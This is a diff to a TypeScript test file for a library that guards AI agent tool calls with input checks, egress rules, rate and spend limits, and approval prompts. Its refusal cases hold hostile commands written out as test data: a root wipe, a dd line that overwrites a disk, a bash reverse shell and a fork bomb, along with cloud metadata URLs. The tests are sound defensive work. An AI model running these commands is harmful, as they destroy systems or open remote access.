@@ -8,6 +8,7 @@ import type {
 } from "@cem/core";
 import { describe, expect, it } from "vitest";
 import {
+  approvalReason,
   applyRules,
   checkEgress,
   checkInputs,
@@ -70,6 +71,11 @@ describe("checkInputs", () => {
     ["too much", { text: "x".repeat(9_000_000) }, "ARGUMENTS_INVALID"],
     ["a secret", { note: [`my token is ${key}`] }, "TOOL_NOT_ALLOWED"],
     ["a command that wipes", { command: "sudo rm -rf --no-preserve-root /" }, "TOOL_NOT_ALLOWED"],
+    [
+      "a command in a shell of its own",
+      { command: "bash -c 'dd if=/dev/zero of=/dev/sda'" },
+      "TOOL_NOT_ALLOWED",
+    ],
     ["a shell to elsewhere", { command: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" }, "TOOL_NOT_ALLOWED"],
     ["a fork bomb", { command: ":(){ :|:& };:" }, "TOOL_NOT_ALLOWED"],
   ])("refuses %s", async (_, args, code) => {
@@ -83,6 +89,7 @@ describe("checkInputs", () => {
     ["emoji with joiners and flags", { text: "👩‍👩‍👧 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}" }],
     ["text from right to left", { text: "\u200Fשלום\u200E" }],
     ["the word constructor", { constructor: "Ferrari", prototype: "x" }],
+    ["a parameter named prototype", { filter: { prototype: 1 }, constructor: { name: "Ferrari" } }],
     ["a text about commands", { body: "Never type rm -rf / in a shell, nor :(){ :|:& };:" }],
     ["removing a folder", { command: "rm -rf ./build" }],
     ["a URL with a placeholder", { url: "postgres://user:password@localhost/db" }],
@@ -107,6 +114,19 @@ describe("checkInputs", () => {
     );
     await expect(own.call({ a: "a cat" })).rejects.toThrow("holds a cat");
     await guarded(checkInputs({ contentFilter: false })).call({ command: "rm -rf /" });
+  });
+});
+
+describe("an argument that is refused", () => {
+  it("is named with its tool", async () => {
+    const { call } = guarded(checkInputs({ maxDepth: 2 }));
+    await expect(call({ a: { b: ["x\0"] } })).rejects.toMatchObject({
+      message: "The arguments of files.remove are not valid: its arguments are nested deeper than 2 levels.",
+    });
+    await expect(call({ a: ["x\0"] })).rejects.toMatchObject({
+      details: { server: "files", tool: "remove", argument: "a[0]" },
+    });
+    await expect(call({ a: "rm -rf /" })).rejects.toMatchObject({ details: { argument: "a" } });
   });
 });
 
@@ -142,6 +162,14 @@ describe("checkEgress with secrets", () => {
   });
 });
 
+describe("checkEgress with a short secret", () => {
+  it("finds it as it is written alone, since its letters stand in many texts", async () => {
+    const { call } = guarded(checkEgress({ secrets: ["ab-cd-ef"] }));
+    await expect(call({ q: "x ab-cd-ef y" })).rejects.toMatchObject({ code: "TOOL_NOT_ALLOWED" });
+    await expect(call({ q: "cab cdef" })).resolves.toMatchObject({ ok: true });
+  });
+});
+
 describe("checkEgress without rules", () => {
   it.each<JsonValue>([
     { url: "http://169.254.169.254/latest" },
@@ -152,6 +180,25 @@ describe("checkEgress without rules", () => {
   ])("refuses a cloud's metadata: %j", async (args) => {
     const { call } = guarded(checkEgress());
     await expect(call(args)).rejects.toMatchObject({ code: "TOOL_NOT_ALLOWED" });
+  });
+});
+
+describe("checkEgress with nothing to guard", () => {
+  it("lets calls through, to any host", async () => {
+    await expect(guarded(checkEgress()).call({ url: "https://a.test", q: "x" })).resolves.toMatchObject({
+      ok: true,
+    });
+    const any = checkEgress({ rules: [{ tools: ["*"], hosts: ["*"] }] });
+    await expect(guarded(any).call({ url: "https://a.test" })).resolves.toMatchObject({ ok: true });
+  });
+
+  it("says which host is not among those of the rule", async () => {
+    const { call } = guarded(checkEgress({ rules: [{ tools: ["*"], hosts: ["a.test"] }] }));
+    await expect(call({ to: "bob@b.test" })).rejects.toMatchObject({
+      message:
+        "files.remove may not be called this way: it points to b.test, which is not among the hosts it may reach.",
+      details: { host: "b.test" },
+    });
   });
 });
 
@@ -226,6 +273,12 @@ describe("applyRules", () => {
 });
 
 describe("limitCalls", () => {
+  it("counts no call of another tool", async () => {
+    const { call } = guarded(limitCalls([{ tools: ["files.*"], calls: 1, per: 60 }]));
+    await call({}, {}, "web.get");
+    await expect(call({}, {}, "web.get")).resolves.toMatchObject({ ok: true });
+  });
+
   it("counts each tool and session by itself, and tells the wait", async () => {
     const { call } = guarded(limitCalls([{ tools: ["files.*"], calls: 2, per: 0.2 }]));
     await call({}, { session: "a" });
@@ -245,6 +298,28 @@ describe("limitCalls", () => {
 });
 
 describe("spendBudgets", () => {
+  it("ends once the seconds that the tools take are used up", async () => {
+    const guard = spendBudgets({ budgets: [{ seconds: 0.05 }] });
+    const slow: ToolInvoker = {
+      specificationVersion: "v1",
+      async invoke() {
+        await new Promise((resolve) => setTimeout(resolve, 30));
+        throw new Error("failed");
+      },
+    };
+    const context = { signal: new AbortController().signal };
+    const invoke = async () => guard(slow).invoke({ server: "a", tool: "b", args: {} }, context);
+    await expect(invoke()).rejects.toThrow("failed");
+    await expect(invoke()).rejects.toThrow("failed");
+    await expect(invoke()).rejects.toMatchObject({ details: { unit: "seconds", budget: 0.05 } });
+  });
+
+  it("counts the bytes of results", async () => {
+    const { call } = guarded(spendBudgets({ budgets: [{ bytes: 9 }] }));
+    await call({});
+    await expect(call({})).rejects.toMatchObject({ details: { unit: "bytes", used: 8 } });
+  });
+
   it("ends a run's calls, and a session's cost", async () => {
     const guard = spendBudgets({
       budgets: [{ calls: 2 }, { per: "session", cost: 1, tools: ["files.*"] }],
@@ -338,6 +413,32 @@ describe("requireApproval", () => {
     });
   });
 
+  it("asks for no destructive tool of a sandbox, where those are left out", () => {
+    const reasonFor = approvalReason({ sandboxed: false });
+    const reasonOf = (sandboxed: boolean) =>
+      reasonFor({ server: "a", tool: "b", found: { annotations: DESTRUCTIVE, sandboxed } });
+    expect([reasonOf(true), reasonOf(false)]).toEqual([undefined, "it may delete or overwrite"]);
+    expect(approvalReason({})({ server: "a", tool: "b", found: { annotations: DESTRUCTIVE } })).toBe(
+      "it may delete or overwrite",
+    );
+  });
+
+  it("says whether the answer was no or there was none", async () => {
+    const said = async (approve?: () => Promise<"no">) =>
+      guarded(requireApproval({ approve }), DESTRUCTIVE).call({});
+    await expect(said(async () => "no")).rejects.toThrow(
+      /it may delete or overwrite, and the answer was no\.$/,
+    );
+    await expect(said()).rejects.toThrow(/and nobody could be asked or nobody answered\.$/);
+  });
+
+  it("asks the memory for sessions alone", async () => {
+    const memory = { has: async () => true, add: async () => {} };
+    const { call } = guarded(requireApproval({ memory }), DESTRUCTIVE);
+    await call({}, { session: "a" });
+    await expect(call({})).rejects.toMatchObject({ code: "NOT_APPROVED" });
+  });
+
   it("ends with its run", async () => {
     const controller = new AbortController();
     const { call } = guarded(requireApproval({ approve: () => new Promise(() => {}) }), DESTRUCTIVE);
@@ -352,6 +453,7 @@ describe("requireApproval", () => {
     [["writes"], { readOnlyHint: true }, false],
     [["destructive"], undefined, false],
     [["writes", "!files.remove"], DESTRUCTIVE, false],
+    [["files.*", "!files.read"], undefined, true],
     [[], DESTRUCTIVE, false],
   ])("with %j and %j asks: %s", async (tools, annotations, asks) => {
     let asked = false;
@@ -396,6 +498,25 @@ describe("elicitApproval", () => {
     [{ action: "decline" }, "no"],
   ] as const)("reads %j as %s", async (answer, expected) => {
     await expect(elicitApproval(async () => answer)(request)).resolves.toBe(expected);
+  });
+  it("asks with a form of one choice, whose first is no", async () => {
+    const asked: unknown[] = [];
+    await elicitApproval(async (question) => {
+      asked.push(question);
+      return { action: "decline" };
+    })(request);
+    expect(asked).toMatchObject([
+      {
+        server: "cem",
+        mode: "form",
+        requestedSchema: {
+          properties: {
+            answer: { type: "string", enum: ["No", "Yes, this once", "Yes, for this session"] },
+          },
+          required: ["answer"],
+        },
+      },
+    ]);
   });
   it("is unanswered where nobody could be asked", async () => {
     await expect(
